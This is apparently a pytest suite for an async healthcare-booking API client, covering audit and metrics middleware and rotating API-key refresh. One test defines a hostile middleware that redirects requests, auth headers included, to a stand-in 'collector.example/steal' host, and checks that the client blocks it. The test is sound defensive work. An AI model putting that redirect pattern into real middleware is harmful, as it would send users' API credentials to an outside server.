"""Middleware runs once per attempt inside the retry loop, sees every response and failure, cannot change
the auth headers or the server, and is shared by derived clients; rotating keys are asked for once at
start and once after a 401, shared by concurrent callers."""

from __future__ import annotations

import time
from typing import Any

import anyio
import anyio.lowlevel
import httpx
import pytest

from herohealth_async import (
    APIConnectionError,
    Attempt,
    AuthenticationError,
    HeroHealthError,
    NotFoundError,
    RequestValidationError,
)
from herohealth_async.api.booking import get_appointment
from tests.helpers import API_KEY, APPOINTMENT, PRACTICE_GROUP_ID, Recorder, json_response, mock_client

pytestmark = pytest.mark.anyio

CallNext = Any


class AuditLog:
    """The README's audit middleware: operation, path template, status, request id, duration; no patient data."""

    def __init__(self) -> None:
        self.entries: list[dict[str, Any]] = []

    async def __call__(self, attempt: Attempt, call_next: CallNext) -> httpx.Response:
        started = time.perf_counter()
        try:
            response: httpx.Response = await call_next(attempt)
        except httpx.TransportError as exc:
            self.entries.append(
                {"operation": attempt.operation_id, "attempt": attempt.number, "error": type(exc).__name__}
            )
            raise
        self.entries.append(
            {
                "operation": attempt.operation_id,
                "path": attempt.path,
                "attempt": attempt.number,
                "status": response.status_code,
                "request_id": response.headers.get("x-request-id"),
                "ms": (time.perf_counter() - started) * 1000,
            }
        )
        return response


async def test_every_attempt_and_every_status_passes_through_in_order() -> None:
    audit = AuditLog()
    failing = json_response(500, {"error": True, "statusCode": 500, "message": "x"}, {"x-request-id": "r1"})
    recorder = Recorder(failing, json_response(200, APPOINTMENT, {"x-request-id": "r2"}), json_response(404, {}))
    async with mock_client(recorder, middleware=[audit]) as hero:
        await hero.booking.get_appointment("58291037466")
        with pytest.raises(NotFoundError):
            await hero.booking.get_appointment("58291037466")
    assert [(e["attempt"], e["status"], e["request_id"]) for e in audit.entries] == [
        (0, 500, "r1"),
        (1, 200, "r2"),
        (0, 404, None),
    ]
    assert {e["operation"] for e in audit.entries} == {"get_appointment"}
    assert {e["path"] for e in audit.entries} == {"/v1/appointments/{id}"}
    assert "58291037466" not in repr(audit.entries)


async def test_middleware_runs_first_outermost_and_sees_transport_failures() -> None:
    order: list[str] = []

    def named(name: str) -> Any:
        async def layer(attempt: Attempt, call_next: CallNext) -> httpx.Response:
            order.append(f"{name} in")
            try:
                return await call_next(attempt)  # type: ignore[no-any-return]
            finally:
                order.append(f"{name} out")

        return layer

    audit = AuditLog()
    async with mock_client(
        Recorder(httpx.ConnectError("refused")), middleware=[named("a"), named("b"), audit], max_retries=1
    ) as hero:
        with pytest.raises(APIConnectionError):
            await hero.booking.get_appointment("1")
    assert order == ["a in", "b in", "b out", "a out"] * 2
    assert [e["error"] for e in audit.entries] == ["ConnectError", "ConnectError"]


async def test_a_metrics_middleware_counts_429s_and_retries() -> None:
    counts = {"attempts": 0, "retries": 0, "429": 0}

    async def metrics(attempt: Attempt, call_next: CallNext) -> httpx.Response:
        counts["attempts"] += 1
        counts["retries"] += attempt.number > 0
        response: httpx.Response = await call_next(attempt)
        counts["429"] += response.status_code == 429
        return response

    limited = json_response(429, {"error": True, "statusCode": 429, "message": "x"}, {"retry-after": "0"})
    async with mock_client(Recorder(limited, json_response(200, APPOINTMENT)), middleware=[metrics]) as hero:
        await hero.booking.get_appointment("1")
    assert counts == {"attempts": 2, "retries": 1, "429": 1}


async def test_middleware_cannot_change_the_auth_headers_or_the_server() -> None:
    async def tamper(attempt: Attempt, call_next: CallNext) -> httpx.Response:
        attempt.request.headers["x-api-key"] = "someone-elses"
        del attempt.request.headers["x-practice-group-id"]
        attempt.request.headers["x-audit"] = "kept"
        return await call_next(attempt)  # type: ignore[no-any-return]

    recorder = Recorder(json_response(200, APPOINTMENT))
    async with mock_client(recorder, middleware=[tamper]) as hero:
        await hero.booking.get_appointment("1")
    sent = recorder.requests[0].headers
    assert (sent["x-api-key"], sent["x-practice-group-id"], sent["x-audit"]) == (API_KEY, PRACTICE_GROUP_ID, "kept")

    async def elsewhere(attempt: Attempt, call_next: CallNext) -> httpx.Response:
        moved = httpx.Request("GET", "https://collector.example/steal", headers=attempt.request.headers)
        return await call_next(Attempt(moved, attempt.operation_id, attempt.method, attempt.path, attempt.number))  # type: ignore[no-any-return]

    async with mock_client(Recorder(json_response(200, APPOINTMENT)), middleware=[elsewhere]) as hero:
        with pytest.raises(HeroHealthError, match="another server"):
            await hero.booking.get_appointment("1")


async def test_derived_clients_share_the_middleware() -> None:
    audit = AuditLog()
    async with mock_client(Recorder(json_response(200, APPOINTMENT)), middleware=[audit]) as hero:
        await hero.with_options(timeout=5).booking.get_appointment("1")
        await hero.for_practice_group("77").call(get_appointment.operation("1"))
    assert len(audit.entries) == 2


def test_middleware_that_is_not_callable_is_refused_by_position() -> None:
    with pytest.raises(RequestValidationError, match=r"middleware\[1\]: must be callable"):
        mock_client(Recorder(json_response(200, APPOINTMENT)), middleware=[AuditLog(), "log"])


# ---------------------------------------------------------------------- rotating keys


def rotating_server(valid: list[str], seen: list[str]) -> Any:
    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request.headers["x-api-key"])
        if request.headers["x-api-key"] in valid:
            return json_response(200, APPOINTMENT)
        return json_response(401, {"error": True, "statusCode": 401, "message": "Unauthorized"})

    return handler


def keys(*values: str) -> tuple[Any, list[int]]:
    asked = [0]

    def provider() -> str:
        asked[0] += 1
        return values[min(asked[0], len(values)) - 1]

    return provider, asked


async def test_a_provider_is_asked_once_at_start_and_once_after_a_401() -> None:
    provider, asked = keys("old-key", "new-key")
    valid, seen = ["old-key"], []
    async with mock_client(rotating_server(valid, seen), api_key=provider) as hero:
        await hero.booking.get_appointment("1")
        await hero.booking.get_appointment("1")
        assert asked[0] == 1
        valid[:] = ["new-key"]  # Hero rotated the key: the old one is refused at once
        await hero.booking.get_appointment("1")
    assert asked[0] == 2
    assert seen == ["old-key", "old-key", "old-key", "new-key"]


async def test_an_async_provider_and_a_key_still_refused_after_one_refresh() -> None:
    asked = [0]

    async def provider() -> str:
        asked[0] += 1
        await anyio.lowlevel.checkpoint()
        return f"key-{asked[0]}"

    seen: list[str] = []
    async with mock_client(rotating_server([], seen), api_key=provider) as hero:
        with pytest.raises(AuthenticationError):
            await hero.booking.get_appointment("1")
    assert asked[0] == 2 and seen == ["key-1", "key-2"]


async def test_concurrent_callers_share_one_refresh() -> None:
    provider, asked = keys("old-key", "new-key", "third-key")
    valid, seen = ["new-key"], []
    async with mock_client(rotating_server(valid, seen), api_key=provider) as hero:
        async with anyio.create_task_group() as tg:
            for _ in range(20):
                tg.start_soon(hero.booking.get_appointment, "1")
    assert asked[0] == 2
    assert seen.count("new-key") == 20


async def test_a_provider_that_returns_no_key_is_refused_before_sending() -> None:
    recorder = Recorder(json_response(200, APPOINTMENT))
    async with mock_client(recorder, api_key=lambda: "") as hero:
        with pytest.raises(RequestValidationError, match="api_key"):
            await hero.booking.get_appointment("1")
    assert recorder.requests == []
    assert "***" in repr(hero)
